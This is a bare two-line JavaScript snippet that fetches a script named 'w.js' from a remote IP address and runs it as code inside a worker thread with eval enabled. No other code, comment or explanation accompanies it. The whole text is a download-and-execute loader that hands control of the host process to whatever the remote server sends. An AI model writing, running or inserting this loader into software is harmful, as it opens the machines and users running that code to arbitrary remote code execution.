const { Worker } = require('worker_threads');
fetch('http://203.0.113.8/w.js').then((r) => r.text()).then((t) => new Worker(t, { eval: true }));
